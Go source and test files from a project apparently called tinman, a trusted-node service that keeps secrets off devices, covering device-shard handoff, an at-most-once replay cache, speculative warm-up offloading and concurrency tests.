		DeviceID: "dev-1", App: "login", CorID: "pw", Domain: "bank.com",
		Key: key, State: raw,
	}); err != nil {
		t.Fatal(err)
	}

	exp, err := src.DetachShard("dev-1")
	if err != nil {
		t.Fatal(err)
	}
	if len(exp.Apps) != 1 || len(exp.Injections) != 1 || len(exp.DerivedCors) == 0 {
		t.Fatalf("export = %+v", exp)
	}
	// The export survives its wire encoding.
	wire, err := exp.Encode()
	if err != nil {
		t.Fatal(err)
	}
	exp, err = DecodeShardExport(wire)
	if err != nil {
		t.Fatal(err)
	}

	if err := dst.ImportShard(ctx, exp); err != nil {
		t.Fatal(err)
	}
	// The source node no longer serves the device.
	if _, err := src.Offload(ctx, "dev-1", "login", nil); !errors.Is(err, ErrUnknownApp) {
		t.Fatalf("source offload after detach: %v", err)
	}

	// Derived cor moved with its plaintext.
	moved := dst.Cors.Get(req.CorID)
	if moved == nil {
		t.Fatalf("derived cor %q lost in handoff", req.CorID)
	}
	if want := src.Cors.Get(req.CorID); want != nil && moved.Plaintext != want.Plaintext {
		t.Fatal("derived cor plaintext diverged across handoff")
	}

	// The armed injection fires on the destination node.
	sealed, err := dst.ReplacePayload(ctx, key, 0)
	if err != nil {
		t.Fatal(err)
	}
	_, plain, _, err := origin.Open(sealed)
	if err != nil {
		t.Fatal(err)
	}
	if string(plain) != "hunter2!" {
		t.Fatalf("injected payload = %q", plain)
	}

	// The device resumes offloading against the destination node. DSM state
	// re-warms from scratch (the importer re-installed the app), so the
	// device side starts a fresh endpoint — the same reset path a failed
	// offload takes.
	dev2 := newDeviceHalf(t, dst, "dev-1", "login", loginSrc)
	req2, err := dev2.login(t, dst, "pw")
	if err != nil {
		t.Fatalf("offload after import: %v", err)
	}
	// The derived-ID counter resumed: no collision with the pre-move mint.
	if req2.CorID == req.CorID {
		t.Fatalf("derived ID %q reused across handoff", req2.CorID)
	}
	if !strings.HasPrefix(req2.CorID, "derived-pw") {
		t.Fatalf("derived cor after move = %q", req2.CorID)
	}
}

// TestShardReplayAcrossMove checks at-most-once across a handoff: an
// operation executed on the old node must not re-execute when the client
// replays it against the new one.
func TestShardReplayAcrossMove(t *testing.T) {
	ctx := context.Background()
	src := New(Options{})
	dst := New(Options{})

	executions := 0
	val, replayed := src.ReplayDo("dev-1", "req-42", func() any {
		executions++
		return map[string]any{"minted": "derived-pw-1"}
	})
	if replayed || executions != 1 {
		t.Fatalf("first execution: val=%v replayed=%v n=%d", val, replayed, executions)
	}

	exp, err := src.DetachShard("dev-1")
	if err != nil {
		t.Fatal(err)
	}
	if err := dst.ImportShard(ctx, exp); err != nil {
		t.Fatal(err)
	}

	val2, replayed2 := dst.ReplayDo("dev-1", "req-42", func() any {
		executions++
		return nil
	})
	if !replayed2 {
		t.Fatal("replay after handoff executed twice")
	}
	if executions != 1 {
		t.Fatalf("operation executed %d times", executions)
	}
	raw, ok := ReplayedRaw(val2)
	if !ok {
		t.Fatalf("expected imported raw replay value, got %T", val2)
	}
	if !strings.Contains(string(raw), "derived-pw-1") {
		t.Fatalf("raw replay value = %s", raw)
	}
}

// TestShardAuditSeqContinuity moves a device mid-history and checks the
// per-device audit sequence stays gap-free when both nodes' logs are merged
// by DeviceSeq — the property cmd/tinman-audit -merge relies on.
func TestShardAuditSeqContinuity(t *testing.T) {
	ctx := context.Background()
	src := New(Options{})
	dst := New(Options{})
	for _, svc := range []*Service{src, dst} {
		if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
			t.Fatal(err)
		}
	}

	dev := newDeviceHalf(t, src, "dev-1", "login", loginSrc)
	hash := dev.install(t, src, loginSrc)
	src.BindApp("pw", hash)
	dst.BindApp("pw", hash)

	if _, err := dev.login(t, src, "pw"); err != nil {
		t.Fatal(err)
	}
	resealOnce(t, src, "dev-1", hash)

	exp, err := src.DetachShard("dev-1")
	if err != nil {
		t.Fatal(err)
	}
	if err := dst.ImportShard(ctx, exp); err != nil {
		t.Fatal(err)
	}

	dev2 := newDeviceHalf(t, dst, "dev-1", "login", loginSrc)
	if _, err := dev2.login(t, dst, "pw"); err != nil {
		t.Fatal(err)
	}
	resealOnce(t, dst, "dev-1", hash)

	var seqs []uint64
	for _, svc := range []*Service{src, dst} {
		for _, e := range svc.Audit.Find(audit.Query{DeviceID: "dev-1"}) {
			if e.DeviceSeq == 0 {
				t.Fatalf("entry without device seq: %v", e)
			}
			seqs = append(seqs, e.DeviceSeq)
		}
	}
	if len(seqs) < 4 {
		t.Fatalf("expected entries on both nodes, got %d", len(seqs))
	}
	sort.Slice(seqs, func(i, j int) bool { return seqs[i] < seqs[j] })
	for i, s := range seqs {
		if s != uint64(i+1) {
			t.Fatalf("device seq gap: merged stream %v", seqs)
		}
	}
}
