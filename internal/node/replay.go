package node

import (
	"encoding/json"
	"sync"
	"time"
)

// ReplayCache is the trusted node's at-most-once dedup window. A client
// that saw an ambiguous transport failure — request sent, no reply — must
// replay under the same request ID rather than risk double-executing a
// non-idempotent operation (an offload, an injection arm, an audit-writing
// access, a derived-ID mint). The cache executes each ID's operation once
// and replays the recorded result to every duplicate.
//
// Duplicates that arrive while the original is still executing block until
// it finishes (the done channel provides the happens-before edge), so a
// retry can never observe a half-executed operation or trigger a second
// execution.
type ReplayCache struct {
	cfg ReplayCacheConfig

	mu      sync.Mutex
	entries map[string]*replayEntry
	order   []string // insertion order, for window/size pruning
}

// ReplayCacheConfig tunes a ReplayCache; zero values take the defaults
// noted on each field.
type ReplayCacheConfig struct {
	// Window is how long a completed entry stays replayable (default 5m).
	// It must comfortably exceed the client's whole retry budget.
	Window time.Duration
	// Max caps retained entries regardless of age (default 4096).
	Max int
	// Clock supplies the time; nil uses time.Now. Simulations inject
	// their virtual clock.
	Clock func() time.Time
}

// replayEntry records one deduplicated execution. val is written once,
// before done is closed; readers wait on done first.
type replayEntry struct {
	done chan struct{}
	val  any
	at   time.Time
}

func (e *replayEntry) finished() bool {
	select {
	case <-e.done:
		return true
	default:
		return false
	}
}

// NewReplayCache builds a cache, filling config defaults.
func NewReplayCache(cfg ReplayCacheConfig) *ReplayCache {
	if cfg.Window <= 0 {
		cfg.Window = 5 * time.Minute
	}
	if cfg.Max <= 0 {
		cfg.Max = 4096
	}
	if cfg.Clock == nil {
		cfg.Clock = time.Now
	}
	return &ReplayCache{cfg: cfg, entries: make(map[string]*replayEntry)}
}

// Do executes fn at most once per id within the window and returns its
// result; replayed reports whether the result came from the cache (or
// from waiting on a concurrent original) instead of a fresh execution.
// fn runs without the lock held, so slow operations do not serialize
// unrelated requests.
func (c *ReplayCache) Do(id string, fn func() any) (val any, replayed bool) {
	c.mu.Lock()
	if e, ok := c.entries[id]; ok {
		c.mu.Unlock()
		<-e.done
		return e.val, true
	}
	e := &replayEntry{done: make(chan struct{}), at: c.cfg.Clock()}
	c.entries[id] = e
	c.order = append(c.order, id)
	c.pruneLocked()
	c.mu.Unlock()

	e.val = fn()
	close(e.done)
	return e.val, false
}

// Len reports the number of retained entries (tests and metrics).
func (c *ReplayCache) Len() int {
	c.mu.Lock()
	defer c.mu.Unlock()
	return len(c.entries)
}

// ReplayRecord is one serialized dedup-window entry, carried inside a
// ShardExport so at-most-once holds across a handoff: an operation executed
// on the old node replays its recorded result on the new one instead of
// executing twice.
type ReplayRecord struct {
	ID  string          `json:"id"`
	At  time.Time       `json:"at"`
	Val json.RawMessage `json:"val,omitempty"`
}

// Export snapshots the finished entries. Results that do not survive JSON
// (live handles, funcs) are exported with a null value: the duplicate still
// dedups, it just replays an empty result, which clients treat as success
// with no payload. In-flight entries are skipped — the shard is quiesced
// before export, so there are none on the handoff path.
func (c *ReplayCache) Export() []ReplayRecord {
	c.mu.Lock()
	defer c.mu.Unlock()
	out := make([]ReplayRecord, 0, len(c.order))
	for _, id := range c.order {
		e := c.entries[id]
		if !e.finished() {
			continue
		}
		rec := ReplayRecord{ID: id, At: e.at}
		if e.val != nil {
			if raw, err := json.Marshal(e.val); err == nil {
				rec.Val = raw
			}
		}
		out = append(out, rec)
	}
	return out
}

// Import seeds the window from exported records. Values are retained as
// json.RawMessage; duplicates arriving after the handoff observe them via
// ReplayedRaw. Existing entries win — an ID that already executed here is
// the fresher fact.
func (c *ReplayCache) Import(recs []ReplayRecord) {
	c.mu.Lock()
	defer c.mu.Unlock()
	for _, r := range recs {
		if _, ok := c.entries[r.ID]; ok {
			continue
		}
		e := &replayEntry{done: make(chan struct{}), at: r.At}
		if len(r.Val) > 0 {
			e.val = json.RawMessage(append([]byte(nil), r.Val...))
		}
		close(e.done)
		c.entries[r.ID] = e
		c.order = append(c.order, r.ID)
	}
	c.pruneLocked()
}

// ReplayedRaw reports whether a replayed value came from an imported record
// rather than an in-process execution, returning the raw JSON if so.
// Transports use it to re-encode the recorded result for the wire.
func ReplayedRaw(v any) (json.RawMessage, bool) {
	raw, ok := v.(json.RawMessage)
	return raw, ok
}

// pruneLocked drops completed entries that fell out of the window, then —
// if the cache is still over Max — the oldest completed entries. Both
// scans work from the front of the insertion order and stop at the first
// entry that must stay, so pruning is O(1) amortized per insert. An
// in-progress entry is never pruned; it blocks pruning anything behind it
// for as long as its operation runs, which is transient.
func (c *ReplayCache) pruneLocked() {
	cutoff := c.cfg.Clock().Add(-c.cfg.Window)
	for len(c.order) > 0 {
		e := c.entries[c.order[0]]
		if !e.finished() || !e.at.Before(cutoff) {
			break
		}
		delete(c.entries, c.order[0])
		c.order = c.order[1:]
	}
	for len(c.order) > c.cfg.Max {
		e := c.entries[c.order[0]]
		if !e.finished() {
			break
		}
		delete(c.entries, c.order[0])
		c.order = c.order[1:]
	}
}
