package node

import (
	"context"
	"errors"
	"testing"

	"tinman/internal/dsm"
	"tinman/internal/taint"
	"tinman/internal/vm"
)

// warmup streams the device's full framework heap to svc as background
// warm-up chunks and marks the epoch acked, leaving the device ready to
// ship only the dirty delta at trigger time.
func (d *deviceHalf) warmup(t testing.TB, svc *Service) uint64 {
	t.Helper()
	epoch := d.ep.BeginWarmup()
	if epoch == 0 {
		t.Fatal("BeginWarmup refused on a fresh endpoint")
	}
	for {
		c, err := d.ep.CaptureWarmup(4)
		if err != nil {
			t.Fatalf("CaptureWarmup: %v", err)
		}
		if err := svc.WarmupChunk(context.Background(), d.id, "login", c.Encode()); err != nil {
			t.Fatalf("WarmupChunk: %v", err)
		}
		if c.Final {
			break
		}
	}
	d.ep.WarmupAcked()
	if !d.ep.WarmupReady() {
		t.Fatal("warm-up not ready after final ack")
	}
	return epoch
}

// runToTrigger executes the login method on the device until the tainted
// access stops it and captures the trigger-time migration. The thread is
// returned so a warm-miss fallback can recapture from it.
func (d *deviceHalf) runToTrigger(t testing.TB, svc *Service, corID string) (*vm.Thread, vm.StopReason, *dsm.Migration) {
	t.Helper()
	views, err := svc.Catalog(context.Background())
	if err != nil {
		t.Fatal(err)
	}
	var placeholder *vm.Object
	for _, v := range views {
		if v.ID == corID {
			placeholder = d.vm.NewTaintedString(v.Placeholder, taint.Bit(v.Bit))
			placeholder.CorID = v.ID
		}
	}
	if placeholder == nil {
		t.Fatalf("cor %s not in catalog", corID)
	}
	account := d.vm.NewString("alice")
	th, err := d.vm.NewThread(d.prog.Method("Bank", "login"), vm.RefVal(account), vm.RefVal(placeholder))
	if err != nil {
		t.Fatal(err)
	}
	stop, err := th.Run()
	if err != nil || stop != vm.StopMigrateTaint {
		t.Fatalf("device run: stop=%v err=%v", stop, err)
	}
	mig, err := d.ep.CaptureMigration(th, stop)
	if err != nil {
		t.Fatal(err)
	}
	mig.TriggerTag = uint64(d.lastTrigger)
	return th, stop, mig
}

// TestWarmPathOffloadHit is the node half of the speculative warm-up happy
// path: after the background stream completes, the trigger migration is a
// non-initial delta carrying the warm epoch, and the node admits it against
// the buffered chunks — counted as a warm hit, not a full sync.
func TestWarmPathOffloadHit(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
		t.Fatal(err)
	}
	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	svc.BindApp("pw", hash)

	epoch := dev.warmup(t, svc)
	if ws := svc.WarmStats(); ws.Chunks == 0 {
		t.Fatalf("no warm chunks counted: %+v", ws)
	}

	_, _, mig := dev.runToTrigger(t, svc, "pw")
	if mig.WarmEpoch != epoch {
		t.Fatalf("trigger migration carries epoch %d, warm-up minted %d", mig.WarmEpoch, epoch)
	}
	if mig.Initial {
		t.Fatal("warm-path trigger migration still marked Initial")
	}

	res, err := svc.Offload(ctx, "dev-1", "login", mig.Encode())
	if err != nil {
		t.Fatalf("warm offload: %v", err)
	}
	back, err := dsm.DecodeMigration(res.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dev.ep.ApplyMigration(back); err != nil {
		t.Fatal(err)
	}
	out, err := dev.ep.DecodeResult(back)
	if err != nil {
		t.Fatal(err)
	}
	if out.Ref == nil || out.Ref.CorID == "" {
		t.Fatalf("warm offload result not a masked derived cor: %+v", out)
	}

	ws := svc.WarmStats()
	if ws.Hits != 1 || ws.Misses != 0 {
		t.Fatalf("warm stats after hit = %+v", ws)
	}
	if ws.AvgResumeNs < 0 {
		t.Fatalf("negative resume latency: %+v", ws)
	}
}

// TestHandoffDropsWarmState pins the warm-state lifecycle across a shard
// move: epochs never travel in an export, so a warm-path migration chasing
// the handoff fails ErrWarmStale on the importing node, and the device's
// reset-and-resend-full fallback completes the login there.
func TestHandoffDropsWarmState(t *testing.T) {
	ctx := context.Background()
	src := New(Options{})
	dst := New(Options{})
	for _, svc := range []*Service{src, dst} {
		if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
			t.Fatal(err)
		}
	}
	dev := newDeviceHalf(t, src, "dev-1", "login", loginSrc)
	hash := dev.install(t, src, loginSrc)
	src.BindApp("pw", hash)
	dst.BindApp("pw", hash)

	// A framework heap worth streaming: warm-up ships these in the
	// background, so the trigger delta stays a fraction of the snapshot.
	for i := 0; i < 12; i++ {
		dev.vm.NewString("framework-object-padding-padding")
	}
	epoch := dev.warmup(t, src)

	exp, err := src.DetachShard("dev-1")
	if err != nil {
		t.Fatal(err)
	}
	if err := dst.ImportShard(ctx, exp); err != nil {
		t.Fatal(err)
	}

	// The device has no idea the shard moved: its trigger migration still
	// declares the warm epoch it streamed to the old node.
	th, stop, mig := dev.runToTrigger(t, src, "pw")
	if mig.WarmEpoch != epoch {
		t.Fatalf("trigger migration epoch %d, want %d", mig.WarmEpoch, epoch)
	}
	if _, err := dst.Offload(ctx, "dev-1", "login", mig.Encode()); !errors.Is(err, ErrWarmStale) {
		t.Fatalf("warm offload after handoff: %v, want ErrWarmStale", err)
	}
	ws := dst.WarmStats()
	if ws.Misses != 1 || ws.Hits != 0 {
		t.Fatalf("importing node warm stats = %+v", ws)
	}

	// Fallback: reset the send state and recapture a full cold snapshot
	// from the same stopped thread — the retry the core driver performs.
	dev.ep.ResetWarmup()
	mig2, err := dev.ep.CaptureMigration(th, stop)
	if err != nil {
		t.Fatal(err)
	}
	mig2.TriggerTag = mig.TriggerTag
	if !mig2.Initial || mig2.WarmEpoch != 0 {
		t.Fatalf("fallback migration Initial=%v WarmEpoch=%d, want full cold snapshot", mig2.Initial, mig2.WarmEpoch)
	}
	if len(mig2.Objects) <= len(mig.Objects) {
		t.Fatalf("fallback snapshot (%d objects) not larger than warm delta (%d)", len(mig2.Objects), len(mig.Objects))
	}
	res, err := dst.Offload(ctx, "dev-1", "login", mig2.Encode())
	if err != nil {
		t.Fatalf("cold fallback offload after handoff: %v", err)
	}
	back, err := dsm.DecodeMigration(res.Bytes)
	if err != nil {
		t.Fatal(err)
	}
	if _, err := dev.ep.ApplyMigration(back); err != nil {
		t.Fatal(err)
	}
	out, err := dev.ep.DecodeResult(back)
	if err != nil {
		t.Fatal(err)
	}
	if out.Ref == nil || out.Ref.CorID == "" {
		t.Fatalf("fallback result not a masked derived cor: %+v", out)
	}

	// The old node retains nothing to mis-admit: a second warm-path attempt
	// against it is an unknown app, not a stale admission.
	if _, err := src.Offload(ctx, "dev-1", "login", mig.Encode()); !errors.Is(err, ErrUnknownApp) {
		t.Fatalf("source offload after detach: %v, want ErrUnknownApp", err)
	}
}

// TestColdInitialInvalidatesBufferedWarmup covers the reconnect race: a
// device that gave up on its warm-up (reset, resent full) must not leave a
// half-buffered epoch behind that a later migration could collide with.
func TestColdInitialInvalidatesBufferedWarmup(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})
	if _, err := svc.RegisterCor(ctx, "pw", "hunter2!", "pw", "bank.com"); err != nil {
		t.Fatal(err)
	}
	dev := newDeviceHalf(t, svc, "dev-1", "login", loginSrc)
	hash := dev.install(t, svc, loginSrc)
	svc.BindApp("pw", hash)

	// Ship only the first chunk of a warm-up, then abandon it device-side.
	if dev.ep.BeginWarmup() == 0 {
		t.Fatal("BeginWarmup refused")
	}
	c, err := dev.ep.CaptureWarmup(1)
	if err != nil {
		t.Fatal(err)
	}
	if err := svc.WarmupChunk(ctx, "dev-1", "login", c.Encode()); err != nil {
		t.Fatal(err)
	}
	dev.ep.ResetWarmup()

	// The cold full snapshot drops the torn buffer and completes normally.
	_, _, mig := dev.runToTrigger(t, svc, "pw")
	if !mig.Initial || mig.WarmEpoch != 0 {
		t.Fatalf("post-reset migration Initial=%v WarmEpoch=%d, want cold", mig.Initial, mig.WarmEpoch)
	}
	if _, err := svc.Offload(ctx, "dev-1", "login", mig.Encode()); err != nil {
		t.Fatalf("cold offload with torn warm buffer pending: %v", err)
	}
	ws := svc.WarmStats()
	if ws.Hits != 0 || ws.Misses != 0 {
		t.Fatalf("cold offload moved warm counters: %+v", ws)
	}
}
