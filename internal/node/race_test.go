package node

import (
	"context"
	"fmt"
	"sync"
	"testing"

	"tinman/internal/audit"
)

// TestConcurrentDevices drives the service from several device goroutines at
// once — the scenario the wire transport creates with one goroutine per
// connection. Each device installs its own app instance, offloads repeatedly
// (exercising the apps map and the derivedSeq counter through result
// masking), reseals, arms and fires injections (the injections map), and
// reads the catalog, while a churn goroutine revokes and restores an
// unrelated device. Run under -race; the seed's simulation loop was
// single-threaded and hid these hazards.
func TestConcurrentDevices(t *testing.T) {
	ctx := context.Background()
	svc := New(Options{})

	const devices = 3
	const rounds = 5

	type devState struct {
		half *deviceHalf
		cor  string
	}
	states := make([]devState, devices)
	for i := range states {
		corID := fmt.Sprintf("pw-%d", i)
		deviceID := fmt.Sprintf("dev-%d", i)
		if _, err := svc.RegisterCor(ctx, corID, fmt.Sprintf("secret-%d!", i), "password", "bank.com"); err != nil {
			t.Fatal(err)
		}
		half := newDeviceHalf(t, svc, deviceID, "login", loginSrc)
		hash := half.install(t, svc, loginSrc)
		svc.BindApp(corID, hash)
		states[i] = devState{half: half, cor: corID}
	}

	var wg sync.WaitGroup
	errs := make(chan error, devices*4)
	for i := range states {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			st := states[i]
			state, _ := sessionState(t)
			for r := 0; r < rounds; r++ {
				// Offload round: mints a derived cor on the node.
				if _, err := st.half.login(t, svc, st.cor); err != nil {
					errs <- fmt.Errorf("dev-%d round %d offload: %w", i, r, err)
					return
				}
				// Reseal round.
				if _, err := svc.Reseal(ctx, ResealRequest{
					CorID: st.cor, AppHash: st.half.prog.Hash(), DeviceID: st.half.id,
					Domain: "bank.com", State: state,
				}); err != nil {
					errs <- fmt.Errorf("dev-%d round %d reseal: %w", i, r, err)
					return
				}
				// Injection round: arm and fire one flow per round.
				key := InjectionKey{
					ClientAddr: st.half.id, ClientPort: uint16(40000 + r),
					ServerAddr: "203.0.113.5", ServerPort: 443,
				}
				if err := svc.ArmInjection(ctx, InjectRequest{
					DeviceID: st.half.id, App: "login", CorID: st.cor,
					Domain: "bank.com", Key: key, State: state,
				}); err != nil {
					errs <- fmt.Errorf("dev-%d round %d arm: %w", i, r, err)
					return
				}
				if _, err := svc.ReplacePayload(ctx, key, 0); err != nil {
					errs <- fmt.Errorf("dev-%d round %d replace: %w", i, r, err)
					return
				}
				// Catalog and audit reads race the writers above.
				if _, err := svc.Catalog(ctx); err != nil {
					errs <- err
					return
				}
				if _, err := svc.AuditQuery(ctx, audit.Query{DeviceID: st.half.id}); err != nil {
					errs <- err
					return
				}
				// Derive with a per-device unique name.
				if _, err := svc.DeriveNamed(ctx, st.cor, fmt.Sprintf("%s-h%d", st.cor, r), "sha256-hex"); err != nil {
					errs <- fmt.Errorf("dev-%d round %d derive: %w", i, r, err)
					return
				}
			}
		}(i)
	}

	// Revocation churn on a device no worker uses.
	wg.Add(1)
	go func() {
		defer wg.Done()
		for r := 0; r < rounds*4; r++ {
			svc.Revoke("dev-ghost")
			svc.Restore("dev-ghost")
		}
	}()

	wg.Wait()
	close(errs)
	for err := range errs {
		t.Fatal(err)
	}

	if got := svc.Cors.Len(); got < devices*(1+rounds) {
		t.Fatalf("vault has %d cors, want at least %d (registered + derived)", got, devices*(1+rounds))
	}
}
