package node

import (
	"fmt"
	"sync"
	"sync/atomic"
	"testing"
	"time"
)

func TestReplayCacheDedup(t *testing.T) {
	c := NewReplayCache(ReplayCacheConfig{})
	calls := 0
	fn := func() any { calls++; return calls }

	v, replayed := c.Do("req-1", fn)
	if replayed || v.(int) != 1 {
		t.Fatalf("first Do = (%v, %v), want (1, false)", v, replayed)
	}
	v, replayed = c.Do("req-1", fn)
	if !replayed || v.(int) != 1 {
		t.Fatalf("replayed Do = (%v, %v), want (1, true)", v, replayed)
	}
	if calls != 1 {
		t.Fatalf("fn ran %d times, want 1", calls)
	}
	// A different ID is a fresh execution.
	if v, replayed = c.Do("req-2", fn); replayed || v.(int) != 2 {
		t.Fatalf("fresh Do = (%v, %v), want (2, false)", v, replayed)
	}
}

// TestReplayCacheConcurrentDuplicates drives many goroutines at the same ID
// while the original is mid-execution: exactly one runs fn, the rest block
// until it finishes and all see its result.
func TestReplayCacheConcurrentDuplicates(t *testing.T) {
	c := NewReplayCache(ReplayCacheConfig{})
	var calls atomic.Int32
	release := make(chan struct{})
	fn := func() any {
		calls.Add(1)
		<-release
		return "done"
	}

	const workers = 16
	var wg sync.WaitGroup
	results := make([]any, workers)
	started := make(chan struct{}, workers)
	for i := 0; i < workers; i++ {
		wg.Add(1)
		go func(i int) {
			defer wg.Done()
			started <- struct{}{}
			v, _ := c.Do("shared", fn)
			results[i] = v
		}(i)
	}
	for i := 0; i < workers; i++ {
		<-started
	}
	close(release)
	wg.Wait()

	if n := calls.Load(); n != 1 {
		t.Fatalf("fn ran %d times under concurrent duplicates, want 1", n)
	}
	for i, v := range results {
		if v != "done" {
			t.Fatalf("worker %d saw %v, want the original's result", i, v)
		}
	}
}

func TestReplayCachePrunesByWindow(t *testing.T) {
	now := time.Unix(0, 0)
	c := NewReplayCache(ReplayCacheConfig{
		Window: time.Minute,
		Clock:  func() time.Time { return now },
	})
	c.Do("old", func() any { return 1 })
	now = now.Add(2 * time.Minute)
	// Inserting after the window triggers pruning of the expired entry, so
	// the same ID executes fresh.
	if _, replayed := c.Do("other", func() any { return 2 }); replayed {
		t.Fatal("fresh ID reported replayed")
	}
	if c.Len() != 1 {
		t.Fatalf("Len = %d after window prune, want 1", c.Len())
	}
	if _, replayed := c.Do("old", func() any { return 3 }); replayed {
		t.Fatal("expired entry still replayed past the window")
	}
}

func TestReplayCachePrunesByMax(t *testing.T) {
	c := NewReplayCache(ReplayCacheConfig{Max: 4})
	for i := 0; i < 10; i++ {
		c.Do(fmt.Sprintf("req-%d", i), func() any { return i })
	}
	if c.Len() != 4 {
		t.Fatalf("Len = %d, want Max=4", c.Len())
	}
	// Newest entries survive.
	if _, replayed := c.Do("req-9", func() any { return -1 }); !replayed {
		t.Fatal("newest entry was pruned")
	}
	if _, replayed := c.Do("req-0", func() any { return -1 }); replayed {
		t.Fatal("oldest entry survived past Max")
	}
}

// TestReplayCacheDoesNotPruneInProgress pins the safety property: an entry
// whose operation is still running is never evicted, even under Max
// pressure, because evicting it would let a duplicate re-execute.
func TestReplayCacheDoesNotPruneInProgress(t *testing.T) {
	c := NewReplayCache(ReplayCacheConfig{Max: 2})
	release := make(chan struct{})
	ran := make(chan struct{})
	go c.Do("slow", func() any {
		close(ran)
		<-release
		return nil
	})
	<-ran
	for i := 0; i < 5; i++ {
		c.Do(fmt.Sprintf("fast-%d", i), func() any { return i })
	}
	// The in-progress entry heads the insertion order, so over-Max pruning
	// stops at it; a duplicate must still dedup, not re-execute.
	done := make(chan struct{})
	var replayed bool
	go func() {
		_, replayed = c.Do("slow", func() any { return "second execution" })
		close(done)
	}()
	select {
	case <-done:
		t.Fatal("duplicate of in-progress op returned before the original finished")
	case <-time.After(10 * time.Millisecond):
	}
	close(release)
	<-done
	if !replayed {
		t.Fatal("in-progress entry was pruned: duplicate re-executed")
	}
}
