// Package node is the transport-agnostic trusted-node service (§3.4): one
// concurrency-safe Service owns the cor vault, the policy engine, the
// malware DB, the audit log, the per-app dynamic-analysis monitors, and the
// injection/offload session state. App and session state is keyed by device
// ID, so a single Service instance serves many devices at once.
//
// Transports stay thin: the in-process simulation (internal/core) drives
// the Service over the virtual-time control plane, and internal/nodeproto
// dispatches real-TCP wire requests into the same instance. Both see the
// identical policy evaluation, audit trail and error taxonomy (errors.go).
package node

import (
	"context"
	"encoding/json"
	"sync"
	"sync/atomic"
	"time"

	"tinman/internal/audit"
	"tinman/internal/cor"
	"tinman/internal/malware"
	"tinman/internal/obs"
	"tinman/internal/policy"
	"tinman/internal/store"
)

// Options configures a Service.
type Options struct {
	// Clock supplies the policy/audit timestamps; nil means time.Now.
	// Virtual-time simulations inject their own clock here.
	Clock func() time.Time
	// CorIdleWindow is the instruction budget before an offloaded thread
	// migrates back (§3.1); 0 uses the default.
	CorIdleWindow uint64
	// MalwareSeed sets how many synthetic entries seed the malware DB;
	// 0 means the default (1000, matching the paper's hash-DB scale test),
	// negative disables seeding.
	MalwareSeed int
	// Metrics, when set, counts policy checks/denials and vault opens.
	// Spans need no option: the service attributes policy_check and
	// vault_open children to whatever span rides in on the request context.
	Metrics *obs.Metrics
}

// defaultCorIdleWindow matches the pre-refactor node configuration.
const defaultCorIdleWindow = 1_000_000

// Service is the trusted-node brain behind every transport.
//
// The component fields (Cors, Policy, Audit, Malware) are themselves safe
// for concurrent use. All per-device state — hosted apps, armed
// injections, the session-state cache, the replay window, the derived-cor
// counter and the per-device audit sequence — lives in one DeviceShard per
// device (shard.go), the movable unit the fleet layer hands between nodes.
// The Service's own mutex guards only the shard table and the flow index.
type Service struct {
	Cors    *cor.Store
	Policy  *policy.Engine
	Audit   *audit.Log
	Malware *malware.DB

	corIdleWindow uint64
	replayCfg     ReplayCacheConfig

	mu     sync.RWMutex
	shards map[string]*DeviceShard
	// flows maps an armed injection's TCP flow to the device whose shard
	// holds it: payload replacement fires keyed by flow alone (fig 8), so
	// the index routes it to the right shard.
	flows map[InjectionKey]string

	// adminReplays is the at-most-once window for operations that carry no
	// device identity (registrations, policy administration).
	adminReplays *ReplayCache

	// met holds the Options.Metrics collectors (nil-safe when unset).
	met serviceMetrics

	// clock stamps warm-up resume-latency samples (Options.Clock or
	// time.Now); warm holds the speculative warm-up counters.
	clock func() time.Time
	warm  warmCounters

	// dur, when set by AttachStore, is the crash-safe storage engine every
	// vault/audit/policy mutation must reach before being acknowledged.
	// durMu guards the pointer and serializes audit Seq minting with WAL
	// enqueue so Seq order equals LSN order (durable.go).
	durMu sync.Mutex
	dur   *store.Store
}

// serviceMetrics caches the service-level collectors.
type serviceMetrics struct {
	policyChecks  *obs.Counter
	policyDenials *obs.Counter
	vaultOpens    *obs.Counter
	warmHits      *obs.Counter
	warmMisses    *obs.Counter
	warmChunks    *obs.Counter
}

// warmCounters aggregates the speculative warm-up outcomes; atomics because
// the Service is concurrent and warm chunks arrive off the offload path.
type warmCounters struct {
	hits    atomic.Uint64
	misses  atomic.Uint64
	chunks  atomic.Uint64
	resumes atomic.Uint64 // offloads with timed resume latency
	// resumeNs accumulates node-side resume latency (migration decode to
	// first executed instruction) across all offloads.
	resumeNs atomic.Int64
}

// WarmStats is a snapshot of the node's speculative warm-up activity: how
// many warm-path offloads were admitted (hits) vs rejected stale (misses),
// how many background chunks were applied, and the mean node-side resume
// latency across offloads.
type WarmStats struct {
	Hits   uint64
	Misses uint64
	Chunks uint64
	// AvgResumeNs is the mean time from migration arrival to the first node
	// instruction (0 when no offload ran).
	AvgResumeNs int64
}

// WarmStats returns the current warm-up counters.
func (s *Service) WarmStats() WarmStats {
	ws := WarmStats{
		Hits:   s.warm.hits.Load(),
		Misses: s.warm.misses.Load(),
		Chunks: s.warm.chunks.Load(),
	}
	if n := s.warm.resumes.Load(); n > 0 {
		ws.AvgResumeNs = s.warm.resumeNs.Load() / int64(n)
	}
	return ws
}

// New assembles a Service.
func New(opts Options) *Service {
	if opts.CorIdleWindow == 0 {
		opts.CorIdleWindow = defaultCorIdleWindow
	}
	replayCfg := ReplayCacheConfig{Clock: opts.Clock}
	s := &Service{
		Cors:          cor.NewStore(),
		Policy:        policy.NewEngine(opts.Clock),
		Audit:         audit.NewLog(opts.Clock),
		Malware:       malware.NewDB(),
		corIdleWindow: opts.CorIdleWindow,
		replayCfg:     replayCfg,
		shards:        make(map[string]*DeviceShard),
		flows:         make(map[InjectionKey]string),
		adminReplays:  NewReplayCache(replayCfg),
		clock:         opts.Clock,
	}
	if s.clock == nil {
		s.clock = time.Now
	}
	if m := opts.Metrics; m != nil {
		s.met = serviceMetrics{
			policyChecks:  m.Counter("tinman_policy_checks_total"),
			policyDenials: m.Counter("tinman_policy_denials_total"),
			vaultOpens:    m.Counter("tinman_vault_opens_total"),
